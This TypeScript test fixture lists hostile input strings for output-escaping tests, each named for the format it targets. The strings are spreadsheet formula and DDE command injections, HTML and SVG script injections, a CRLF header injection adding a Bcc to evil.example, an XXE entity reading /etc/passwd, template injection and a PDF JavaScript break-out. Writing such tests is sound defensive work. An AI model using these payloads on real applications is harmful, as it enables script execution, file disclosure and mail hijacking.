// Texts that an output could mistake for markup, a formula, a header, or a part of a calendar, of
// XML or of a PDF. Short fields contain the beginning of a text, so formulas come first.

/** Named by what they attack. The quick run uses the first two. */
const TEXTS: Readonly<Record<string, string>> = {
  'a formula, markup': `=1+1"'><img src=x onerror=planted=1>{teamName}`,
  'line ends, XML': '@x\r\nBcc: planted@evil.example\r\nEND:VEVENT\r\n]]>&x;\u0001\uFFFE\u202E',
  'a command, the end of a text field': `+cmd|' /C planted'!A0</textarea></title></style><iframe srcdoc="<script>planted">`,
  'a minus, rare line ends': `-2+3+cmd|' /C planted'!A0\u2028\u2029\u0085\u000B\u000C<svg/onload=planted=1>`,
  'a full-width formula, an entity':
    '＝1+planted]]><!ENTITY x SYSTEM "file:///etc/passwd">&x;&#0;</field><planted/>',
  'a tab, a parameter of a calendar':
    '\t=1+planted;ALTREP="https://evil.example":planted,\\n\\;\r\n X-PLANTED:1',
  'a line end, a link formula': '\r=HYPERLINK("https://evil.example/planted";"x")',
  'a script link, merge tags': `javascript:planted=1//{{constructor.constructor('planted')()}}\${7*7}`,
  'a data link': 'data:text/html,<script>planted()</script>',
  'a hidden script link': 'java\tscript:planted=1\u2066\u200B\u200D\uFEFF',
  'the end of a PDF string': ')/S/JavaScript/JS(planted)>>endobj(\\',
  'characters that cannot be stored': 'a\0planted\uD800',
  'a name of objects': '__proto__',
}

interface HostileText {
  readonly name: string
  readonly text: string
}

export const hostileTexts = (isNight: boolean): readonly HostileText[] =>
  Object.entries(TEXTS)
    .map(([name, text]) => ({ name, text }))
    .slice(0, isNight ? undefined : 2)
